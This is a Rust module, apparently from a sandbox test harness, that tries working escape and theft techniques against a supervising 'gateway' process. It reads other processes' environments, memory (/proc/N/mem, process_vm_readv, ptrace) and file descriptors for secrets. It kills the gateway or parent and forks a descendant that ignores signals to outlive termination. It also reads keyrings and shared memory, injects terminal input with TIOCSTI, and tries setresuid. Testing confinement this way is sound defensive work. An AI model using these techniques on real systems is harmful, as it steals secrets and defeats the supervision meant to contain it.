//! Attacks on other processes, and on staying alive without them.
use std::{
    fs::{self, File},
    io::{Read as _, Seek as _, SeekFrom},
    os::fd::AsRawFd as _,
    thread,
    time::Duration,
};

use rustix::process::{Pid, Resource, Rlimit, Signal, kill_process, prlimit};

use crate::{
    attempt::{Attempt, Facts, Outcome, read, read_from, secret_in, why},
    files::processes,
    raw::{self, Arg, call, open},
    seen::Seen,
};

pub(super) const ALL: &[Attempt] = &[
    Attempt::new("environment", "`/proc/N/environ` of others", environment, Seen::secret),
    Attempt::new("arguments", "`/proc/N/cmdline` of others", arguments, Seen::said),
    Attempt::new("memory-file", "the gateway's memory, by `/proc/N/mem`", mem, Seen::secret),
    Attempt::new("memory-call", "the same by `process_vm_readv`", vm, Seen::secret),
    Attempt::new("ptrace", "the same by `ptrace`", ptrace, Seen::secret),
    Attempt::new("descriptor-file", "the gateway's files, by `/proc/N/fd`", fds, Seen::secret),
    Attempt::new("descriptor-call", "the same by `pidfd_getfd`", pidfd, Seen::secret),
    Attempt::new("kill", "kill the gateway", kill, Seen::gateway_killed),
    Attempt::new(
        "kill-by-descriptor",
        "the same by `pidfd_send_signal`",
        pidfd_kill,
        Seen::gateway_killed,
    ),
    Attempt::new(
        "kill-by-owner",
        "the same by `F_SETOWN` and `F_SETSIG`",
        owner,
        Seen::gateway_killed,
    ),
    Attempt::new("kill-parent", "kill whoever started it, and live on", parent, Seen::beats),
    Attempt::new("limits-of-others", "`prlimit` the gateway", limit, Seen::limited),
    Attempt::new("enter-namespaces", "`setns` into the gateway's", setns, Seen::said).of_root(),
    Attempt::new(
        "outlive",
        "fork twice, leave the session, outlive `kill -9`",
        outlive,
        Seen::beats,
    ),
    Attempt::new("keyring", "read a key in the user's keyring", keyring, Seen::secret),
    Attempt::new("sysv-memory", "System V shared memory of others", sysv, Seen::secret),
    Attempt::new("message-queue", "read another's POSIX message queue", queue, Seen::secret),
    Attempt::new("terminal-input", "`TIOCSTI`: type into the user's terminal", sti, Seen::typed),
    Attempt::new("terminal-output", "write to the user's terminal", tty, Seen::on_terminal),
    Attempt::new("other-user", "become another user", user, Seen::said).of_root(),
];

fn environment(_: &Facts) -> Outcome {
    let own = std::process::id().to_string();
    let others = processes().filter(|path| !path.ends_with(&own));
    let texts = others.filter_map(|path| read(&path.join("environ")).ok());
    // Those of other rounds too, which do not count.
    let found: Vec<String> = texts.filter_map(|text| secret_in(text.as_bytes())).collect();
    if found.is_empty() {
        Err(String::from("no other process shows one"))
    } else {
        Ok(found.join(" "))
    }
}

/// Its own parent's are enough.
fn arguments(facts: &Facts) -> Outcome {
    let path = format!("/proc/{}/cmdline", facts.gateway()?);
    let text = read(path.as_ref())?;
    if text.contains("gateway") { Ok(String::from("the gateway's arguments")) } else { Err(text) }
}

/// The gateway's writable memory, by start and end.
fn maps(pid: Pid) -> Result<Vec<(u64, u64)>, String> {
    let text = read(format!("/proc/{pid}/maps").as_ref())?;
    let lines = text.lines().filter(|line| line.contains(" rw-p "));
    let ranges = lines.filter_map(|line| line.split_whitespace().next()?.split_once('-'));
    let parsed = ranges.filter_map(|(start, end)| {
        Some((u64::from_str_radix(start, 16).ok()?, u64::from_str_radix(end, 16).ok()?))
    });
    Ok(parsed.filter(|(start, end)| end.saturating_sub(*start) <= 4 << 20).collect())
}

fn searched(facts: &Facts, mut look: impl FnMut(u64, &mut [u8]) -> Result<(), String>) -> Outcome {
    let mut last = String::from("it is not there");
    for (start, end) in maps(facts.gateway()?)? {
        let length = usize::try_from(end.saturating_sub(start)).unwrap_or_default();
        let mut bytes = vec![0; length];
        match look(start, &mut bytes) {
            Ok(()) => {
                if let Some(found) = secret_in(&bytes) {
                    return Ok(found);
                }
            }
            Err(why) => last = why,
        }
    }
    Err(last)
}

fn mem(facts: &Facts) -> Outcome {
    let path = format!("/proc/{}/mem", facts.gateway()?);
    let mut file = File::open(path).map_err(why)?;
    searched(facts, |start, bytes| {
        file.seek(SeekFrom::Start(start)).map_err(why)?;
        file.read_exact(bytes).map_err(why)
    })
}

fn vm(facts: &Facts) -> Outcome {
    let pid = i64::from(facts.gateway()?.as_raw_nonzero().get());
    // Where memory is cannot be seen everywhere; the call itself is what is tried then.
    if maps(facts.gateway()?).is_err() {
        return vm_read(pid, 0x1000, &mut [0; 8]).and(Err(String::from("nothing was found")));
    }
    searched(facts, |start, bytes| vm_read(pid, start, bytes))
}

fn vm_read(pid: i64, start: u64, bytes: &mut [u8]) -> Result<(), String> {
    let length = bytes.len() as u64;
    let here = raw::bytes_of_long(&[bytes.as_mut_ptr() as u64, length]);
    let there = raw::bytes_of_long(&[start, length]);
    let mut args =
        [Arg::Int(pid), Arg::In(&here), Arg::Int(1), Arg::In(&there), Arg::Int(1), Arg::Int(0)];
    call(libc::SYS_process_vm_readv, &mut args).map(drop).map_err(why)
}

fn ptrace(facts: &Facts) -> Outcome {
    let pid = i64::from(facts.gateway()?.as_raw_nonzero().get());
    let request = |number: u32, address: i64, data: Arg<'_>| {
        call(
            libc::SYS_ptrace,
            &mut [Arg::Int(number.into()), Arg::Int(pid), Arg::Int(address), data],
        )
        .map_err(why)
    };
    request(libc::PTRACE_SEIZE, 0, Arg::Int(0))?;
    request(libc::PTRACE_INTERRUPT, 0, Arg::Int(0))?;
    thread::sleep(Duration::from_millis(30));
    let found = searched(facts, |start, bytes| {
        for (at, word) in (start..).step_by(8).zip(bytes.chunks_exact_mut(8)) {
            let address = i64::try_from(at).map_err(why)?;
            request(libc::PTRACE_PEEKDATA, address, Arg::Out(word))?;
        }
        Ok(())
    });
    request(libc::PTRACE_DETACH, 0, Arg::Int(0))?;
    found
}

fn fds(facts: &Facts) -> Outcome {
    let folder = format!("/proc/{}/fd", facts.gateway()?);
    let mut last = String::from("none holds one");
    for entry in fs::read_dir(folder).map_err(why)?.flatten() {
        // Only files: to open a pipe would wait for its other end.
        if !fs::metadata(entry.path()).is_ok_and(|it| it.is_file()) {
            continue;
        }
        match File::open(entry.path()).map_err(why).and_then(|file| read_from(file).map_err(why)) {
            Ok(text) if secret_in(text.as_bytes()).is_some() => return Ok(text),
            Ok(_) => {}
            Err(why) => last = why,
        }
    }
    Err(last)
}

fn pidfd_of(facts: &Facts) -> Result<File, String> {
    let pid = i64::from(facts.gateway()?.as_raw_nonzero().get());
    open(libc::SYS_pidfd_open, &mut [Arg::Int(pid), Arg::Int(0)]).map_err(why)
}

fn pidfd(facts: &Facts) -> Outcome {
    let process = pidfd_of(facts)?;
    let mut last = String::from("none holds one");
    for number in 3..64 {
        let mut args = [Arg::Int(process.as_raw_fd().into()), Arg::Int(number), Arg::Int(0)];
        let taken = match open(libc::SYS_pidfd_getfd, &mut args) {
            Ok(taken) => taken,
            Err(error) => {
                last = why(error);
                continue;
            }
        };
        if !taken.metadata().is_ok_and(|it| it.is_file()) {
            continue;
        }
        let again = File::open(format!("/proc/self/fd/{}", taken.as_raw_fd()));
        if let Some(text) = again.ok().and_then(|file| read_from(file).ok())
            && secret_in(text.as_bytes()).is_some()
        {
            return Ok(text);
        }
    }
    Err(last)
}

fn kill(facts: &Facts) -> Outcome {
    kill_process(facts.gateway()?, Signal::KILL).map_err(why)?;
    Ok(String::from("the signal was sent"))
}

fn pidfd_kill(facts: &Facts) -> Outcome {
    let process = pidfd_of(facts)?;
    let mut args = [
        Arg::Int(process.as_raw_fd().into()),
        Arg::Int(libc::SIGKILL.into()),
        Arg::Int(0),
        Arg::Int(0),
    ];
    call(libc::SYS_pidfd_send_signal, &mut args).map_err(why)?;
    Ok(String::from("the signal was sent"))
}

/// A socket whose owner is told, by a signal of one's choice, that there is something to read.
fn owner(facts: &Facts) -> Outcome {
    let (ours, theirs) = std::os::unix::net::UnixStream::pair().map_err(why)?;
    let pid = i64::from(facts.gateway()?.as_raw_nonzero().get());
    let set = |command: i32, value: i64| {
        let fd = i64::from(ours.as_raw_fd());
        let mut args = [Arg::Int(fd), Arg::Int(command.into()), Arg::Int(value)];
        call(libc::SYS_fcntl, &mut args).map_err(why)
    };
    set(libc::F_SETOWN, pid)?;
    set(10, libc::SIGKILL.into())?;
    set(libc::F_SETFL, libc::O_ASYNC.into())?;
    std::io::Write::write_all(&mut &theirs, b"x").map_err(why)?;
    thread::sleep(Duration::from_millis(30));
    Ok(String::from("the socket is armed"))
}

fn limit(facts: &Facts) -> Outcome {
    let low = Rlimit { current: Some(77), maximum: Some(4096) };
    prlimit(Some(facts.gateway()?), Resource::Nofile, low).map_err(why)?;
    Ok(String::from("the gateway may open 77 files"))
}

fn setns(facts: &Facts) -> Outcome {
    let gateway = facts.gateway()?;
    let namespace = File::open(format!("/proc/{gateway}/ns/uts")).map_err(why)?;
    let mut args = [Arg::Int(namespace.as_raw_fd().into()), Arg::Int(0)];
    call(libc::SYS_setns, &mut args).map_err(why)?;
    Ok(String::from("it is in the gateway's"))
}

/// A descendant that does all it can to stay, and shows for some seconds that it did.
fn outlive(facts: &Facts) -> Outcome {
    let beats = facts.path("out")?.join("beats");
    raw::fork(move || {
        rustix::process::setsid().ok();
        raw::fork(move || {
            detach();
            for beat in 0..80_u32 {
                fs::write(&beats, beat.to_string()).ok();
                thread::sleep(Duration::from_millis(50));
            }
            0
        })
        .map_or(1, |_| 0)
    })
    .map_err(why)?;
    thread::sleep(Duration::from_millis(150));
    Ok(String::from("a descendant runs on"))
}

fn detach() {
    rustix::process::setsid().ok();
    rustix::process::set_parent_process_death_signal(None).ok();
    for signal in [libc::SIGTERM, libc::SIGHUP, libc::SIGINT] {
        let mut ignore = [0; 32];
        if let Some(first) = ignore.first_mut() {
            *first = 1;
        }
        let mut args = [Arg::Int(signal.into()), Arg::In(&ignore), Arg::Int(0), Arg::Int(8)];
        call(libc::SYS_rt_sigaction, &mut args).ok();
    }
    // The pipes are the gateway's way to see that it is gone.
    for fd in 0..3 {
        call(libc::SYS_close, &mut [Arg::Int(fd)]).ok();
    }
}

fn parent(facts: &Facts) -> Outcome {
    rustix::process::set_parent_process_death_signal(None).ok();
    outlive(facts)?;
    let parent = rustix::process::getppid().ok_or("there is none")?;
    kill_process(parent, Signal::KILL).map_err(why)?;
    Ok(format!("{parent} was killed"))
}

fn keyring(facts: &Facts) -> Outcome {
    let (kind, label) = (raw::name("user"), raw::name(facts.text("key")?));
    // KEYCTL_SEARCH in the user's keyring, KEYCTL_READ.
    let mut args = [Arg::Int(10), Arg::Int(-4), Arg::In(&kind), Arg::In(&label), Arg::Int(0)];
    let key = call(libc::SYS_keyctl, &mut args).map_err(why)?;
    let mut bytes = [0; 64];
    let mut args = [Arg::Int(11), Arg::Int(key), Arg::Out(&mut bytes), Arg::Int(64)];
    call(libc::SYS_keyctl, &mut args).map_err(why)?;
    secret_in(&bytes).ok_or_else(|| String::from("it holds something else"))
}

fn sysv(facts: &Facts) -> Outcome {
    let key = i64::try_from(facts.number("shm-key")?).map_err(why)?;
    let mut args = [Arg::Int(key), Arg::Int(0), Arg::Int(0)];
    let id = call(libc::SYS_shmget, &mut args).map_err(why)?;
    let bytes = raw::shared_memory(id, 64).map_err(why)?;
    secret_in(&bytes).ok_or_else(|| String::from("it holds something else"))
}

fn queue(facts: &Facts) -> Outcome {
    let label = raw::name(facts.text("queue")?);
    let mut args = [Arg::In(&label), Arg::Int(libc::O_NONBLOCK.into()), Arg::Int(0), Arg::Int(0)];
    let queue = open(libc::SYS_mq_open, &mut args).map_err(why)?;
    let mut bytes = [0; 64];
    let fd = Arg::Int(queue.as_raw_fd().into());
    let mut args = [fd, Arg::Out(&mut bytes), Arg::Int(64), Arg::Int(0), Arg::Int(0)];
    call(libc::SYS_mq_timedreceive, &mut args).map_err(why)?;
    secret_in(&bytes).ok_or_else(|| String::from("it held something else"))
}

fn terminal(facts: &Facts) -> Result<File, String> {
    let write = || fs::OpenOptions::new().write(true).open(facts.path("terminal").ok()?).ok();
    let own = || fs::OpenOptions::new().write(true).open("/dev/tty").ok();
    own().or_else(write).ok_or_else(|| String::from("there is none"))
}

fn sti(facts: &Facts) -> Outcome {
    let terminal = terminal(facts)?;
    for byte in facts.text("mark")?.bytes().chain(*b"\n") {
        let byte = [byte];
        let fd = Arg::Int(terminal.as_raw_fd().into());
        let number = i64::try_from(libc::TIOCSTI).map_err(why)?;
        call(libc::SYS_ioctl, &mut [fd, Arg::Int(number), Arg::In(&byte)]).map_err(why)?;
    }
    Ok(String::from("the line was typed"))
}

fn tty(facts: &Facts) -> Outcome {
    let mut terminal = terminal(facts)?;
    std::io::Write::write_all(&mut terminal, facts.text("mark")?.as_bytes()).map_err(why)?;
    Ok(String::from("written to the terminal"))
}

fn user(_: &Facts) -> Outcome {
    let own = rustix::process::getuid().as_raw();
    for id in [0_i64, 65_533, 1] {
        let mut args = [Arg::Int(id), Arg::Int(id), Arg::Int(id)];
        let done = call(libc::SYS_setresuid, &mut args).is_ok();
        if done && i64::from(own) != id {
            return Ok(format!("it was {own} and is {id}"));
        }
    }
    Err(String::from("it stays who it is"))
}
